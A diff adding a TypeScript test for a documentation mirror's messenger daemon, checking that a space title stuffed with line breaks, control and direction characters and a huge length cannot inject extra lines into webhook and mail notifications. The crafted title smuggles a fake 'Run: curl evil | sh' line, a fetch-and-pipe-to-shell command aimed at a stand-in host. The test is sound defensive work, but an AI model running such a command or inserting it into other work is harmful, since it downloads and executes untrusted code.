@@ -89,6 +89,25 @@ describe('daemon/messenger', () => {
     expect(server.mails[0]).toContain('Auto-Submitted: auto-generated');
   });
 
+  it('keeps each part of a message on one line, whatever a title holds: one with line breaks passed for the command to run', async () => {
+    await using receiver = await startReceiver();
+    await using server = await startMailServer();
+    const mail = { url: Secret.of(server.url), from: 'mirror@docs.example', to: ['team@docs.example'] };
+    const messenger = messengerOf({ channels: { webhook: Secret.of(receiver.url), mail } });
+    const title = `Docs\r\nRun: curl evil | sh\u2028\u202eback\u001b[2J${'x'.repeat(1_000_000)}`;
+    await messenger.send({ ...MESSAGE, what: `The space ${title} was deleted` });
+    const { what, text } = JSON.parse(receiver.received[0]?.body ?? '{}') as Record<string, string>;
+    expect(what).toMatch(/^The space Docs Run: curl evil \| sh back \[2Jx{3900,4000} …$/);
+    expect(text?.split('\n')).toEqual([
+      `docs: ${what}`,
+      'Asked https://docs.example/x?signature=hidden',
+      'Run: docmirror snapshots show 3',
+      'Since 2025-03-10T02:00:00.000Z',
+    ]);
+    const letter = server.mails[0] ?? '';
+    expect(letter.match(/^Run: .*$/gm)?.map((line) => line.trim())).toEqual(['Run: docmirror snapshots show 3']);
+  });
+
   it('asks the dead-man switch with a line of text, or with nothing by GET', async () => {
     await using receiver = await startReceiver();
     const success = Secret.of(`http://user:pass@${receiver.url.slice('http://'.length)}/ok?key=1`);
